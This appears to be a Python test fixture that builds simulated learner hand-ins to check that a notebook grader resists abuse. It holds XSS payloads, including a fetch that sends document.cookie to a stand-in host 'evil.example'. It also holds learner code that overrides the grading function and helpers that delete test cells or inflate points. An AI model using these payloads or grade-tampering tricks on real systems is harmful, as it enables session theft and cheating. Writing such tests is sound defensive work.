"""A cohort for the grading tests: who hands in what, and what each should get back."""

from __future__ import annotations

import hashlib
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.answers import solution

HOSTILE = (
    "</script></textarea></pre><script>window.canary=1;alert(1)</script>"
    "<img src=x onerror=\"window.canary=1;fetch('http://evil.example/'+document.cookie)\">"
    "<svg onload=window.canary=1></svg>[press](javascript:window.canary=1)"
    "\n```\n<img src=x onerror=window.canary=1>\n```mermaid\n<img src=x onerror=window.canary=1>\n"
)
ORDER = "journey.first-visit.order"
FEEL = "journey.first-visit.feel"
LEAVE = "journey.first-visit.leave"
CHANGE = "journey.first-visit.change"
FIRM, LOW = "journey.typical.firm", "journey.month.low"
DIFFERENCES, DECIDE = "journey.returning.differences", "journey.repair.decide"
KINDS = {
    **{ORDER: "order", FEEL: "rate", LEAVE: "numeric", CHANGE: "written"},
    **{FIRM: "choose", LOW: "choose", DIFFERENCES: "sort", DECIDE: "sort"},
}
CELLS = {name: name.replace(".", "-") for name in KINDS}
STEPS = [
    *("notice", "look-up", "prices", "book", "confirm", "arrive", "welcome", "skin-talk", "patch-test", "treatment"),
    *("pay", "aftercare"),
]
RIGHT: dict[str, Any] = {
    ORDER: {"order": STEPS, "out": ["stock-delivery", "staff-rota", "club-card"]},
    FEEL: {
        "feel": {"prices": -1, "book": -1, "arrive": -2, "welcome": 2, "patch-test": 0, "treatment": 2},
        "see": {
            "prices": "price-list",
            "book": "booking-form",
            "arrive": "dark-door",
            "welcome": "your-name",
            "patch-test": "dab-and-clock",
            "treatment": "warm-towels",
        },
    },
    LEAVE: {"text": "94 customers"},
    CHANGE: {"text": 'Put a lamp and a bell at the door. They would see light: "pitch black", two said.', "ticks": [0]},
    **{name: value for name, value in solution().items() if name in (FIRM, LOW, DIFFERENCES, DECIDE)},
}


def entry(question: str, value: Any) -> dict[str, Any]:
    return {"kind": KINDS.get(question, "choose"), "value": value, "when": "2026-11-21T20:00:00+00:00", "tries": 1}


def record(learner: str, answers: dict[str, Any]) -> dict[str, Any]:
    entries = {question: entry(question, value) for question, value in answers.items()}
    head = {"format": "theirshoes-answers", "version": 1, "notebook": "journey", "learner": learner}
    return head | {"answers": entries}


@dataclass
class Learner:
    """One hand-in: what is in it, and the marks and sentences that it should get."""

    answers: dict[str, Any] | None = None
    raw: bytes | None = None
    owner: str | None = None
    change: Callable[[dict[str, Any]], None] | None = None
    scores: dict[str, float] = field(default_factory=dict)
    says: dict[str, str] = field(default_factory=dict)
    queued: bool = False

    def record_bytes(self, name: str) -> bytes | None:
        if self.raw is not None:
            return self.raw
        if self.answers is None:
            return None
        return json.dumps(record(self.owner or name, self.answers)).encode()


def edit_text(notebook: dict[str, Any]) -> None:
    """Hostile text in every cell of a notebook that a learner can write in, and outputs made by hand."""
    cells = notebook["cells"]
    for cell in cells:
        if cell["cell_type"] == "markdown":
            cell["source"] = f"{''.join(cell['source'])}\n\n{HOSTILE}"
        else:
            data = {"text/html": HOSTILE, "image/svg+xml": HOSTILE, "image/png": '"><script>window.canary=1</script>'}
            data |= {"application/javascript": "window.canary=1", "text/markdown": HOSTILE, "text/plain": "x"}
            output = {"output_type": "display_data", "data": data, "metadata": {"width": '"><script>1</script>'}}
            cell["outputs"] = [output]
        cell["metadata"]["tags"] = ['"><img src=x onerror=window.canary=1>']
    more = {"metadata": {}, "source": HOSTILE}
    cells += [
        more | {"cell_type": "markdown", "id": "added"},
        more | {"cell_type": "raw", "id": "raw", "metadata": {"raw_mimetype": "text/html"}},
        more | {"cell_type": "markdown", "id": '"><script>window.canary=1</script>'},
        {"cell_type": "code", "id": "code", "metadata": {}, "source": CODE, "outputs": [], "execution_count": None},
    ]
    notebook["metadata"]["title"] = "</title><script>window.canary=1</script>"


CODE = """from IPython.display import HTML, Javascript, display
display(HTML("<img src=x onerror=window.canary=1>"), Javascript("window.canary=1"))
open("ran-learner-code", "w").close()
import theirshoes; theirshoes.grade = lambda *a, **k: 99.0"""


def duplicate_tests(notebook: dict[str, Any]) -> None:
    notebook["cells"] += json.loads(json.dumps(notebook["cells"]))


def delete_tests(notebook: dict[str, Any]) -> None:
    notebook["cells"] = [cell for cell in notebook["cells"] if "nbgrader" not in cell["metadata"]]


def raise_points(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        if mark := cell["metadata"].get("nbgrader"):
            mark |= {"points": 1000, "schema_version": 1, "locked": False}
            cell["source"] = "1000.0"


NOTHING = dict.fromkeys(KINDS, 0.0)
FULL = {ORDER: 6.0, FEEL: 6.0, LEAVE: 3.0, FIRM: 3.0, LOW: 2.0, DIFFERENCES: 4.0, DECIDE: 4.0}
HALF_ORDER = {"order": [*STEPS[3:6], *STEPS[:3], *STEPS[6:], "club-card"], "out": ["stock-delivery", "staff-rota"]}


def pack(name: str, learner: Learner, released: Path, target: Path) -> Path:
    """Write the hand-in of a learner whose files could not come out of the course's own button."""
    notebook = json.loads((released / "journey.ipynb").read_text(encoding="utf-8"))
    if learner.change:
        learner.change(notebook)
    files = {"journey.ipynb": json.dumps(notebook).encode()}
    if (answers := learner.record_bytes(name)) is not None:
        files["journey.answers.json"] = answers
    manifest = {
        "format": "theirshoes-hand-in",
        "version": 1,
        "course": "in-their-shoes",
        "assignment": "journey",
        "learner": {"id": name, "name": HOSTILE},
        "when": "2026-11-21T20:10:00+00:00",
        "files": {file: hashlib.sha256(content).hexdigest() for file, content in files.items()},
    }
    path = target / f"journey-{name}.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for file, content in {"handin.json": json.dumps(manifest).encode(), **files}.items():
            archive.writestr(file, content)
    return path


RECORD_5_MB = json.dumps(record("five-megabytes", {LEAVE: {"text": "9" * 5_000_000}})).encode()
SAME_RATING = {"feel": dict.fromkeys(RIGHT[FEEL]["feel"], 1)}
ODD_TYPES = {ORDER: {"order": [7, None], "out": "x"}, FEEL: [], LEAVE: {"text": {"a": 1}}, CHANGE: {"text": 7}}
HOSTILE_ANSWERS = {
    ORDER: RIGHT[ORDER],
    FEEL: RIGHT[FEEL] | {"see": {"prices": HOSTILE}},
    LEAVE: {"text": HOSTILE[:400]},
    CHANGE: {"text": HOSTILE, "ticks": [0, 1]},
}

COHORT: dict[str, Learner] = {
    "right": Learner(RIGHT, scores=FULL, says={ORDER: "Yes, every step", LEAVE: "Yes, 94"}, queued=True),
    "half": Learner(
        {ORDER: HALF_ORDER, FEEL: {"feel": RIGHT[FEEL]["feel"]}, LEAVE: {"text": "39 %"}},
        scores={LEAVE: 0.75, CHANGE: 0.0},
        says={
            ORDER: "Books cannot come before Looks the salon up",
            FEEL: "Say what the customer sees at Checks the prices",
            LEAVE: "39 is the share that left, in percent",
        },
    ),
    "wrong": Learner(
        {ORDER: {"order": STEPS[::-1]}, FEEL: SAME_RATING, LEAVE: {"text": "147"}},
        scores=NOTHING,
        says={
            ORDER: "cannot come before",
            FEEL: "Every step has the same rating",
            LEAVE: "147 is how many customers booked",
        },
    ),
    "blank": Learner(None, scores=NOTHING, says={ORDER: "This question has no answer"}),
    "blank-answers": Learner(dict.fromkeys(KINDS), scores=NOTHING, says={ORDER: "Nothing is in order yet"}),
    "no-record": Learner(None, scores=NOTHING, says={ORDER: "No answers came with this assignment"}),
    "half-written": Learner(
        raw=b'{"format":"theirshoes-answers","version":1,"notebook":"jour',
        scores=NOTHING,
        says={ORDER: "journey.answers.json"},
    ),
    "wrong-types": Learner(
        ODD_TYPES, scores=NOTHING, says=dict.fromkeys([ORDER, FEEL, LEAVE], "We could not read this answer")
    ),
    "five-megabytes": Learner(raw=RECORD_5_MB, scores=NOTHING, says={LEAVE: "is larger than"}),
    "unknown-question": Learner(
        {"journey.other": {"choice": "a"}, LEAVE: {"text": "94"}},
        scores=NOTHING | {LEAVE: 3.0},
        says={ORDER: "This question has no answer"},
    ),
    "another": Learner(RIGHT, owner="right", scores=NOTHING, says={ORDER: "another learner"}),
    "hostile": Learner(
        HOSTILE_ANSWERS,
        change=edit_text,
        scores={ORDER: 6.0, FEEL: 0.0, LEAVE: 0.0},
        says={LEAVE: "We could not read"},
        queued=True,
    ),
    "duplicated": Learner(RIGHT, change=duplicate_tests, scores=FULL, queued=True),
    "deleted": Learner(RIGHT, change=delete_tests, scores=FULL, queued=True),
    "greedy": Learner(
        {},
        change=raise_points,
        scores={ORDER: 0.0, FEEL: 0.0, LEAVE: 0.0},
        says={ORDER: "This question has no answer"},
        queued=True,
    ),
}
BY_BUTTON = ("right", "half", "wrong", "blank", "blank-answers")
